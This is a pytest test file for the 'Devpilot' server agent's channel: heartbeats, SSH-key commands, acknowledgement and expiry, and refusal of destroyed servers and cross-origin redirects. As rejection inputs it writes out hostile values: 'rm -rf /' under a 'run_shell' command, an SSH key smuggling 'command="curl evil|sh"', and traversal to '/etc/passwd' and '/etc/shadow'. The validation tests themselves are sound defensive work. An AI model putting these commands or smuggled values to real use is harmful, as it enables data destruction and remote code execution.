"""The agent's one channel: heartbeats with metrics, commands of fixed kinds, acknowledged or failed
within their bound; the credential goes only to Devpilot's origin, over HTTPS unless allowed; the agent
of a destroyed server is refused. The real agent script runs as a subprocess against the live server."""

import json
import subprocess
import sys
import threading
from dataclasses import dataclass, field
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from django.utils import timezone

from devpilot.errors import Conflict, Invalid
from provisioning import agents, commands, steps
from provisioning.cloudinit import AGENT_PATH, user_data
from provisioning.models import AgentCommand, CommandState, MetricSample, Server, ServerStatus
from tests.test_provisioning import manual_tasks, new_server, registration_token, settle  # noqa: F401

HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostKeyOfTheServerForTestsOnly0000000000000"
KEY_ID = "0b0f5a2e-6f1c-4a4e-9a3e-1c2d3e4f5a6b"
BOB_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBobsLaptopKeyForTestsOnly000000000000000000"


@dataclass
class Agent:
    """The real agent script, pointed at a temporary root: its state, authorized_keys and host key."""

    url: str
    root: Path
    token: str = ""
    runs: list = field(default_factory=list)

    @property
    def state(self) -> Path:
        return self.root / "agent.json"

    @property
    def authorized_keys(self) -> Path:
        return self.root / "root" / ".ssh" / "authorized_keys"

    @property
    def credential(self) -> str:
        return json.loads(self.state.read_text())["credential"]

    def run(self, *extra, check=True) -> subprocess.CompletedProcess:
        args = ["--allow-http", "--server", self.url, "--state", str(self.state), "--once", "--attempts", "1",
                "--authorized-keys", str(self.authorized_keys), "--host-key", str(self.root / "ssh_host_ed25519_key.pub")]
        if self.token and not self.state.exists():
            args += ["--token", self.token]
        result = subprocess.run([sys.executable, str(AGENT_PATH), *args, *extra], capture_output=True, text=True,
                                timeout=60)
        self.runs.append(result)
        if check:
            assert result.returncode == 0, result.stderr
        return result


@pytest.fixture
def agent(workspace, connection, fake_do, live_server, settings, tmp_path):
    """A provisioned server whose real agent has registered (and sent its first heartbeat)."""
    settings.DEVPILOT_PUBLIC_URL = live_server.url
    server = settle(new_server(workspace, connection))
    (tmp_path / "ssh_host_ed25519_key.pub").write_text(HOST_KEY + " root@web-1\n")
    (tmp_path / "root" / ".ssh").mkdir(parents=True, mode=0o700)
    running = Agent(live_server.url, tmp_path, registration_token(fake_do))
    running.run()
    server.refresh_from_db()
    assert server.status == ServerStatus.READY
    return server, running


def test_a_heartbeat_carries_metrics_keys_and_the_host_key(agent):
    server, running = agent
    sample = MetricSample.objects.get(server=server)
    assert 0 <= sample.cpu_percent <= 100 and sample.resolution == 0
    assert 0 < sample.memory_used <= sample.memory_total and 0 < sample.disk_used <= sample.disk_total
    assert sample.load1 >= 0 and sample.load15 >= 0
    assert server.agent_info["sshKeys"] == [] and server.agent_info["hostKey"] == HOST_KEY
    assert server.agent_info["uptimeSeconds"] > 0
    assert running.credential not in running.runs[0].stderr
    # A second heartbeat within 55 s adds no row: a chatty agent cannot grow storage.
    running.run()
    assert MetricSample.objects.filter(server=server).count() == 1


def test_a_command_is_fetched_once_run_and_acknowledged(agent):
    server, running = agent
    running.authorized_keys.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIUnmanagedLineKeptAsIs0000000000000 ops@host\n")
    command = commands.enqueue(server, "install_ssh_keys", {"keys": [{"id": KEY_ID, "publicKey": BOB_KEY}]})
    assert command.state == CommandState.PENDING and command.due_at == command.created_at + commands.DEFAULT_BOUND
    running.run()
    command.refresh_from_db()
    assert command.state == CommandState.DONE and command.result == {"sshKeys": [KEY_ID]} and command.sent_at
    # Nobody was given that key: the next heartbeat's reconciliation takes it off again, and only it.
    (follow_up,) = AgentCommand.objects.exclude(pk=command.pk)
    assert (follow_up.kind, follow_up.payload, follow_up.state) == ("remove_ssh_keys", {"ids": [KEY_ID]}, "done")
    assert running.authorized_keys.read_text().splitlines() == [
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIUnmanagedLineKeptAsIs0000000000000 ops@host"]
    assert running.authorized_keys.stat().st_mode & 0o777 == 0o600
    assert "command install_ssh_keys done" in running.runs[-1].stderr and BOB_KEY not in running.runs[-1].stderr
    # Acknowledged once: a second report of the same command is refused.
    with pytest.raises(Conflict):
        agents.acknowledge(running.credential, {"id": str(command.pk), "ok": True, "result": {"sshKeys": []}})


def test_only_the_defined_kinds_with_their_exact_payload_can_be_sent(agent):
    server, _ = agent
    with pytest.raises(Invalid, match="not a command the Devpilot agent knows"):
        commands.enqueue(server, "run_shell", {"command": "rm -rf /"})
    smuggled = 'command="curl evil|sh" ' + BOB_KEY
    for payload in ({"keys": [{"id": KEY_ID, "publicKey": smuggled}]},
                    {"keys": [{"id": KEY_ID, "publicKey": BOB_KEY + "\nssh-rsa AAAA"}]},
                    {"keys": [{"id": "../../etc/passwd", "publicKey": BOB_KEY}]},
                    {"keys": [{"id": KEY_ID, "publicKey": BOB_KEY}], "path": "/etc/shadow"},
                    {"keys": []}):
        with pytest.raises(Invalid):
            commands.enqueue(server, "install_ssh_keys", payload)
    assert not AgentCommand.objects.exists()


def test_the_agent_refuses_what_it_does_not_know_and_says_why(tmp_path):
    """A Devpilot that sends a kind or a payload the agent does not accept gets a failed acknowledgement."""
    sent = [{"id": KEY_ID, "kind": "run_shell", "payload": {"command": "id"}},
            {"id": "1b0f5a2e-6f1c-4a4e-9a3e-1c2d3e4f5a6b", "kind": "install_ssh_keys",
             "payload": {"keys": [{"id": KEY_ID, "publicKey": 'command="id" ' + BOB_KEY}]}}]
    devpilot = type("Devpilot", (Channel,), {"seen": [], "commands": sent})
    server, url = serve(devpilot)
    try:
        state = tmp_path / "agent.json"
        state.write_text(json.dumps({"credential": "dpa_c"}))
        keys = tmp_path / "authorized_keys"
        result = subprocess.run([sys.executable, str(AGENT_PATH), "--allow-http", "--server", url, "--state", str(state),
                                 "--once", "--authorized-keys", str(keys), "--host-key", str(tmp_path / "none")],
                                capture_output=True, text=True, timeout=60)
    finally:
        server.shutdown()
    assert result.returncode == 0, result.stderr
    acks = {body["id"]: body for path, _, body in devpilot.seen if path == "/api/v1/agent/command-results"}
    assert acks[KEY_ID] == {"id": KEY_ID, "ok": False, "error": "this agent (1.0.0) does not know the command 'run_shell'"}
    refused = acks["1b0f5a2e-6f1c-4a4e-9a3e-1c2d3e4f5a6b"]
    assert refused["ok"] is False and "not an ed25519, RSA or ECDSA public key line" in refused["error"]
    assert not keys.exists()


def test_a_command_never_acknowledged_ends_failed_with_the_reason(agent, monkeypatch):
    server, running = agent
    fetched = commands.enqueue(server, "remove_ssh_keys", {"ids": [KEY_ID]})
    assert [c["id"] for c in commands.take(server)] == [str(fetched.pk)]  # sent, never answered
    never_fetched = commands.enqueue(server, "remove_ssh_keys", {"ids": [KEY_ID]})
    assert commands.expire_overdue() == 0  # within the bound
    later = timezone.now() + commands.DEFAULT_BOUND + timedelta(seconds=1)
    monkeypatch.setattr(timezone, "now", lambda: later)
    assert commands.expire_overdue() == 2
    fetched.refresh_from_db()
    never_fetched.refresh_from_db()
    assert fetched.state == never_fetched.state == CommandState.FAILED
    assert fetched.error == "The agent fetched this command but reported no result within 5 minutes."
    assert "did not fetch this command within 5 minutes" in never_fetched.error
    # A late answer does not resurrect it.
    with pytest.raises(Conflict):
        agents.acknowledge(running.credential, {"id": str(fetched.pk), "ok": True, "result": {"sshKeys": []}})


def test_a_failure_reported_by_the_agent_is_kept_with_its_message(agent):
    server, running = agent
    command = commands.enqueue(server, "remove_ssh_keys", {"ids": [KEY_ID]})
    commands.take(server)
    with pytest.raises(Invalid):  # a result that does not fit the kind's schema
        agents.acknowledge(running.credential, {"id": str(command.pk), "ok": True, "result": {"sshKeys": "all"}})
    agents.acknowledge(running.credential, {"id": str(command.pk), "ok": False, "error": "Read-only file system"})
    command.refresh_from_db()
    assert command.state == CommandState.FAILED and command.error == "The agent reported: Read-only file system"


def test_the_agent_of_a_destroyed_server_is_refused_with_401(agent, client):
    server, running = agent
    command = commands.enqueue(server, "remove_ssh_keys", {"ids": [KEY_ID]})
    commands.take(server)
    auth = {"HTTP_AUTHORIZATION": f"Bearer {running.credential}"}
    for status in (ServerStatus.DESTROYING, ServerStatus.DESTROYED):
        steps.set_status(server, status, "Gone.")
        heartbeat = client.post("/api/v1/agent/heartbeat", "{}", content_type="application/json", **auth)
        assert heartbeat.status_code == 401 and "no longer accepted" in heartbeat.json()["message"]
        ack = client.post("/api/v1/agent/command-results", json.dumps({"id": str(command.pk), "ok": True}),
                          content_type="application/json", **auth)
        assert ack.status_code == 401
    refused = running.run(check=False)
    assert refused.returncode != 0 and "heartbeat refused by Devpilot (HTTP 401: This server was destroyed" in refused.stderr
    # Its open command ends at once, with the reason; no bound to wait for.
    assert commands.expire_overdue() == 1
    command.refresh_from_db()
    assert command.state == CommandState.FAILED and "destroyed before its agent" in command.error
    # An archived server (destroyed, kept with its history) is refused too, whatever its status says.
    Server.objects.filter(pk=server.pk).update(status=ServerStatus.READY, archived_at=timezone.now())
    assert client.post("/api/v1/agent/heartbeat", "{}", content_type="application/json", **auth).status_code == 401
    assert client.post("/api/v1/agent/heartbeat", "{}", content_type="application/json",
                       HTTP_AUTHORIZATION="Bearer dpa_forged").status_code == 401


def test_heartbeat_input_is_checked(agent, client):
    _, running = agent
    auth = {"HTTP_AUTHORIZATION": f"Bearer {running.credential}"}
    bad = client.post("/api/v1/agent/heartbeat", json.dumps({"metrics": {"cpuPercent": 250}}),
                      content_type="application/json", **auth)
    assert bad.status_code == 400 and {d["field"] for d in bad.json()["details"]} >= {"metrics.cpuPercent"}
    assert client.post("/api/v1/agent/heartbeat", json.dumps({"sshKeys": "all"}), content_type="application/json",
                       **auth).status_code == 400


# --- The credential's travels ----------------------------------------------------------------------


class Channel(BaseHTTPRequestHandler):
    """A stand-in Devpilot: answers heartbeats with `commands` once, records every request, redirects
    command results to `redirect_results_to` when set."""

    seen: list = []
    commands: list = []
    redirect_results_to: str | None = None

    def do_POST(self):  # noqa: N802 - the stdlib's name
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        cls = type(self)
        cls.seen.append((self.path, self.headers.get("Authorization"), body))
        if self.path.endswith("/command-results") and cls.redirect_results_to:
            self.send_response(307)
            self.send_header("Location", cls.redirect_results_to + self.path)
            self.end_headers()
            return
        answer = {"interval": 60, "commands": []}
        if self.path.endswith("/heartbeat") and cls.commands:
            answer["commands"], cls.commands = cls.commands, []
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(json.dumps(answer).encode())

    def log_message(self, *args):
        pass


def serve(handler):
    server = HTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_port}"


def test_a_command_result_is_never_sent_to_another_origin_on_a_redirect(tmp_path):
    elsewhere = type("Elsewhere", (Channel,), {"seen": [], "commands": []})
    other, elsewhere_url = serve(elsewhere)
    devpilot = type("Devpilot", (Channel,), {
        "seen": [], "redirect_results_to": elsewhere_url,
        "commands": [{"id": KEY_ID, "kind": "remove_ssh_keys", "payload": {"ids": [KEY_ID]}}]})
    server, url = serve(devpilot)
    try:
        state = tmp_path / "agent.json"
        state.write_text(json.dumps({"credential": "dpa_secret-credential"}))
        result = subprocess.run([sys.executable, str(AGENT_PATH), "--allow-http", "--server", url, "--state", str(state),
                                 "--once", "--authorized-keys", str(tmp_path / "keys"), "--host-key", str(tmp_path / "x")],
                                capture_output=True, text=True, timeout=60)
    finally:
        server.shutdown()
        other.shutdown()
    assert result.returncode == 0, result.stderr  # the agent carries on; the result is simply not delivered
    assert "refused a redirect to another origin" in result.stderr
    assert [p for p, _, _ in devpilot.seen].count("/api/v1/agent/command-results") == 1
    assert elsewhere.seen == []
    assert "dpa_secret-credential" not in result.stderr


def test_plain_http_is_refused_unless_allowed_and_cloud_init_allows_it_only_for_http(tmp_path, settings):
    state = tmp_path / "agent.json"
    state.write_text(json.dumps({"credential": "dpa_x"}))
    refused = subprocess.run([sys.executable, str(AGENT_PATH), "--server", "http://127.0.0.1:9", "--state", str(state),
                              "--once"], capture_output=True, text=True, timeout=60)
    assert refused.returncode != 0 and "must be an https:// URL" in refused.stderr
    settings.DEVPILOT_AGENT_ALLOW_HTTP = True
    assert "--allow-http" in user_data("http://10.0.0.2:8000", "dpr_x")
    assert "--allow-http" not in user_data("https://devpilot.example.com", "dpr_x")  # never a way down to HTTP
    settings.DEVPILOT_AGENT_ALLOW_HTTP = False
    assert "--allow-http" not in user_data("http://10.0.0.2:8000", "dpr_x")
